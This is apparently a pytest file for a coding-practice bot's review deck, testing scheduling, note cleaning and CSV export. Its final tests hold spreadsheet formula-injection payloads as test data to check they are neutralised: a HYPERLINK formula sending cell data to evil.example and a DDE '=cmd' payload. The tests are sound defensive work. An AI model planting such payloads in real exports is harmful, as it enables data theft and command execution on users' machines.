"""The deck's rules with a fixed clock: adding, rating, due order, the note and the spreadsheet export."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io

import pytest

from bot.core.deck import (
    CSV_HEADER,
    MAX_NOTE_CHARS,
    DeckError,
    Recall,
    clean_note,
    due_first,
    export_csv,
    new_card,
    rate,
    retrievability,
    worth_offering,
)
from bot.core.questions import Round
from tests.factories import make_question

T0 = dt.datetime(2026, 11, 30, 18, 0, tzinfo=dt.UTC)
DAY = dt.timedelta(days=1)


def test_adding_schedules_the_first_re_attempt_at_least_a_day_later_with_no_attempts_yet() -> None:
    card, log = new_card("cod-test-001", "two pointers from both ends", T0)
    assert card.due >= T0 + DAY  # no same-day learning steps
    assert card.due < T0 + 30 * DAY  # a hard question comes back soon
    assert card.attempts == 0 and card.last_rating is None and card.last_review is None
    assert '"rating": 2' in log  # the first review is logged as Hard


def test_each_rating_moves_the_due_date_further_than_the_one_below() -> None:
    card, _ = new_card("cod-test-001", "", T0)
    then = card.due
    dues = {recall: rate(card, recall, then)[0].due for recall in Recall}
    assert dues[Recall.AGAIN] < dues[Recall.HARD] < dues[Recall.GOOD] < dues[Recall.EASY]
    assert all(due >= then + DAY for due in dues.values())
    good, log = rate(card, Recall.GOOD, then)
    assert good.attempts == 1 and good.last_rating is Recall.GOOD and good.last_review == then
    assert '"rating": 3' in log
    # Remembering again stretches the interval; forgetting shrinks it.
    better = rate(good, Recall.GOOD, good.due)[0]
    assert better.due - good.due > good.due - then
    forgot = rate(good, Recall.AGAIN, good.due)[0]
    assert forgot.due - good.due < good.due - then


def test_rating_is_reproducible_no_fuzzing() -> None:
    card, _ = new_card("cod-test-001", "", T0)
    assert rate(card, Recall.GOOD, card.due)[0] == rate(card, Recall.GOOD, card.due)[0]


def test_retrievability_falls_as_time_passes() -> None:
    card, _ = new_card("cod-test-001", "", T0)
    assert (
        retrievability(card, T0 + dt.timedelta(hours=1))
        > retrievability(card, card.due)
        > retrievability(card, card.due + 30 * DAY)
    )


def test_due_selection_keeps_cards_due_now_most_overdue_first() -> None:
    early, _ = new_card("a", "", T0 - 10 * DAY)
    late, _ = new_card("b", "", T0 - 5 * DAY)
    future, _ = new_card("c", "", T0)
    now = max(early.due, late.due) + dt.timedelta(minutes=1)
    assert future.due > now
    assert [c.question_id for c in due_first([future, late, early], now)] == ["a", "b"]
    assert due_first([future], now) == []


def test_offer_when_two_hints_or_a_low_score() -> None:
    assert worth_offering(2, [4, 4])
    assert worth_offering(0, [2, 3])
    assert worth_offering(0, [], peer_scores=[1, 2])
    assert not worth_offering(1, [3, 4])
    assert not worth_offering(0, [])


def test_note_is_one_trimmed_line_and_a_long_one_is_refused() -> None:
    assert clean_note('  sort, then\n sweep\t"left"  ') == 'sort, then sweep "left"'
    assert clean_note("x" * MAX_NOTE_CHARS) == "x" * MAX_NOTE_CHARS
    with pytest.raises(DeckError, match="one line"):
        clean_note("x" * (MAX_NOTE_CHARS + 1))


def test_csv_has_the_exact_header_and_a_row_that_round_trips() -> None:
    question = make_question(Round.CODING, 1, title='Trap, "rain" water — über')
    note = 'monotonic stack, "pop while taller",\nthen sum — größer als 0 ✓'
    card, _ = new_card(question.id, note, T0)
    card = rate(card, Recall.GOOD, card.due)[0]
    text = export_csv([(card, question), (new_card("gone-001", "", T0)[0], None)])
    assert text.splitlines()[0] == (
        "question_id,title,round,topic,difficulty,note,attempts,last_rating,last_attempt_utc,next_due_utc"
    )
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == CSV_HEADER
    assert len(rows) == 3  # the newline in the note did not split the row
    assert rows[1] == [
        question.id,
        'Trap, "rain" water — über',
        "coding",
        "two-pointers",
        "medium",
        'monotonic stack, "pop while taller", then sum — größer als 0 ✓',
        "1",
        "Good",
        card.last_review.isoformat(timespec="seconds"),
        card.due.isoformat(timespec="seconds"),
    ]
    assert rows[1][8].endswith("+00:00") and dt.datetime.fromisoformat(rows[1][9]) == card.due.replace(microsecond=0)
    assert rows[2][:2] == ["gone-001", "(no longer in the banks)"]


@pytest.mark.parametrize(
    "note",
    ['=HYPERLINK("http://evil.example/?"&A1, "see the idea")', "+1 trick: sum(A1:A9)", "-2+3", "@SUM(1+1)"],
)
def test_a_note_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(note: str) -> None:
    question = make_question(Round.CODING, 1, title="=cmd|' /C calc'!A0")
    card, _ = new_card(question.id, note, T0)
    rows = list(csv.reader(io.StringIO(export_csv([(card, question)]), newline="")))
    assert rows[1][5] == "'" + note
    assert rows[1][1] == "'=cmd|' /C calc'!A0"  # a title from a server's own bank directory


def test_a_stored_note_starting_with_a_tab_or_return_is_quoted_and_an_inner_sign_is_kept() -> None:
    question = make_question(Round.CODING, 1, title="Sum = target, in O(n)")
    card = new_card(question.id, "two pointers; a-b = 0 => done", T0)[0]
    stored = [dataclasses.replace(card, note=note) for note in ("\t=1+1", "\r@A1")]  # as a database could hold
    rows = list(csv.reader(io.StringIO(export_csv([(c, question) for c in (card, *stored)]), newline="")))
    assert (rows[1][1], rows[1][5]) == ("Sum = target, in O(n)", "two pointers; a-b = 0 => done")
    assert [row[5] for row in rows[2:]] == ["'\t=1+1", "'\r@A1"]
